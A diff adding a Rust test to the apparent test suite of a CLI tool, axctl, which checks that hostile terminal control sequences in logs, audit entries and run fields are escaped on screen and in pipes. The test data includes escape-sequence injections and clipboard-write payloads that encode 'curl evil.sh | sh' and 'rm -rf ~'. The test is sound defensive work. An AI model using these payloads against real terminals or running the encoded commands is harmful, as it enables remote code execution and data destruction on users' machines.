@@ -972,3 +972,172 @@ async fn purge_sends_the_age_and_shows_the_counts_and_refuses_bad_ages() {
         "refused ages send no purge"
     );
 }
+
+/// Runs `axctl --server SERVER ARGS` with stdout and stderr on a pseudo-terminal, and answers
+/// its exit code and the bytes the terminal received (the line discipline's output processing
+/// off, so they are the bytes axctl wrote).
+async fn axctl_on_terminal(server: &str, args: &[&str]) -> (i32, Vec<u8>) {
+    use std::io::Read;
+    use std::os::fd::FromRawFd;
+    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_axctl"));
+    command
+        .env_remove("AX_SERVER")
+        .env("RUST_LOG", "off")
+        .args(["--server", server])
+        .args(args)
+        .stdin(std::process::Stdio::null());
+    let run = tokio::task::spawn_blocking(move || {
+        let (mut master, mut slave) = (0, 0);
+        // SAFETY: openpty writes two new descriptors; the null pointers ask for defaults.
+        let opened = unsafe {
+            libc::openpty(
+                &mut master,
+                &mut slave,
+                std::ptr::null_mut(),
+                std::ptr::null(),
+                std::ptr::null(),
+            )
+        };
+        assert_eq!(opened, 0, "openpty: {}", std::io::Error::last_os_error());
+        // SAFETY: both descriptors are fresh and owned here alone.
+        let (mut master, slave) = unsafe {
+            (
+                std::fs::File::from_raw_fd(master),
+                std::fs::File::from_raw_fd(slave),
+            )
+        };
+        // SAFETY: termios is plain data, filled in by tcgetattr on our own terminal.
+        unsafe {
+            use std::os::fd::AsRawFd;
+            let mut modes: libc::termios = std::mem::zeroed();
+            assert_eq!(libc::tcgetattr(slave.as_raw_fd(), &mut modes), 0);
+            modes.c_oflag &= !libc::OPOST;
+            assert_eq!(libc::tcsetattr(slave.as_raw_fd(), libc::TCSANOW, &modes), 0);
+        }
+        command.stdout(slave.try_clone().unwrap()).stderr(slave);
+        let mut child = command.spawn().unwrap();
+        // Only the child holds the terminal now: reading ends (EIO) once it exits.
+        drop(command);
+        let mut out = Vec::new();
+        let mut buffer = [0u8; 4096];
+        loop {
+            match master.read(&mut buffer) {
+                Ok(0) => break,
+                Ok(n) => out.extend_from_slice(&buffer[..n]),
+                Err(err) if err.raw_os_error() == Some(libc::EIO) => break,
+                Err(err) if err.kind() == std::io::ErrorKind::Interrupted => {}
+                Err(err) => panic!("reading the terminal: {err}"),
+            }
+        }
+        let status = child.wait().unwrap();
+        (status.code().unwrap_or(-1), out)
+    });
+    tokio::time::timeout(std::time::Duration::from_secs(60), run)
+        .await
+        .expect("axctl ends")
+        .unwrap()
+}
+
+/// What a task or a caller can send that a terminal would act on: a window title (OSC 0), a
+/// clear screen, a clipboard write (OSC 52), a carriage return forging a stderr line, a
+/// bidirectional override.
+const HOSTILE: [&str; 5] = [
+    "\x1b]0;pwned-title\x07hello",
+    "\x1b[2J\x1b[Hcleared",
+    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07copied",
+    "x\rerr|forged",
+    "bidi \u{202e}txt.exe",
+];
+
+fn has_control(bytes: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(bytes);
+    text.chars()
+        .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn on_a_terminal_logs_audit_and_runs_show_control_characters_escaped() {
+    let (fake, server) = seeded().await;
+    fake.with(|s| {
+        s.logs.insert(1, fake::lines(&HOSTILE));
+        s.views.audit = vec![pb::AuditEntry {
+            at_ms: 1_700_000_002_000,
+            actor: "eve\x1b]0;admin\x07@box".into(),
+            action: "trigger".into(),
+            target: "workflow/etl".into(),
+            detail: "\x1b]52;c;cm0gLXJmIH4=\x07".into(),
+            remote: "10.0.0.2:5555".into(),
+            token: "ops".into(),
+        }];
+        s.runs.push(fake::FakeRun {
+            run: pb::Run {
+                id: 7,
+                workflow: "etl".into(),
+                state: pb::RunState::Success as i32,
+                triggered_by: "mallory\r\x1b[2K".into(),
+                params: [("note".to_string(), "a\nb\x1b[31m".to_string())].into(),
+                ..Default::default()
+            },
+            polls: 0,
+            ends_after: 0,
+            final_state: pb::RunState::Success,
+        });
+    });
+
+    let (code, out) = axctl_on_terminal(&server, &["logs", "1"]).await;
+    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&out));
+    let text = String::from_utf8(out.clone()).unwrap();
+    assert!(!has_control(&out), "{text:?}");
+    assert_eq!(
+        text,
+        "\\u001b]0;pwned-title\\u0007hello\n\
+         \\u001b[2J\\u001b[Hcleared\n\
+         \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007copied\n\
+         x\\u000derr|forged\n\
+         bidi \\u202etxt.exe\n"
+    );
+    let (_, out) = axctl_on_terminal(&server, &["logs", "1", "--streams"]).await;
+    assert!(
+        String::from_utf8_lossy(&out).contains("out|x\\u000derr|forged\n"),
+        "the forged prefix is text after the real one"
+    );
+
+    // `--raw` keeps the bytes, on a terminal too.
+    let (_, out) = axctl_on_terminal(&server, &["logs", "1", "--raw"]).await;
+    assert_eq!(out, format!("{}\n", HOSTILE.join("\n")).into_bytes());
+
+    // Piped, a plain log is the task's bytes; with a prefix it is escaped.
+    let piped = axctl(&server, &["logs", "1"]).await;
+    assert_eq!(piped.stdout, format!("{}\n", HOSTILE.join("\n")));
+    let piped = axctl(&server, &["logs", "1", "--streams"]).await;
+    assert!(!has_control(piped.stdout.as_bytes()), "{piped:?}");
+    assert!(
+        piped.stdout.contains("out|x\\u000derr|forged\n"),
+        "{piped:?}"
+    );
+
+    for args in [
+        &["audit"][..],
+        &["audit", "-o", "json"],
+        &["get", "runs"],
+        &["get", "run", "7"],
+        &["get", "run", "7", "-o", "yaml"],
+    ] {
+        let (code, out) = axctl_on_terminal(&server, args).await;
+        let text = String::from_utf8_lossy(&out);
+        assert_eq!(code, 0, "{args:?}: {text}");
+        assert!(!has_control(&out), "{args:?}: {text:?}");
+        assert!(text.contains("\\u001b"), "{args:?}: {text:?}");
+    }
+    // A table's cells are escaped in a pipe too: a line break cannot forge a row.
+    let piped = axctl(&server, &["get", "runs"]).await;
+    assert!(
+        piped.stdout.contains("mallory\\u000d\\u001b[2K"),
+        "{piped:?}"
+    );
+    let (_, out) = axctl_on_terminal(&server, &["audit", "--raw"]).await;
+    assert!(
+        String::from_utf8_lossy(&out).contains("\x1b]52;c;cm0gLXJmIH4=\x07"),
+        "--raw keeps the audit detail's bytes"
+    );
+}
